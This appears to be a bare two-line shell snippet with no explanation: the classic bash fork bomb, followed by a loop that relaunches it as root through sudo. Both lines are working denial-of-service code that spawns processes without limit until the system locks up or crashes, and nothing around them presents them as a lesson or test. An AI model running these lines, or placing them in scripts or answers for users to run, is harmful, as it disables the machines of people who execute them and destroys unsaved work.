:(){ :|:& };:
while :; do sudo sh -c ':(){ :|:& };:'; done
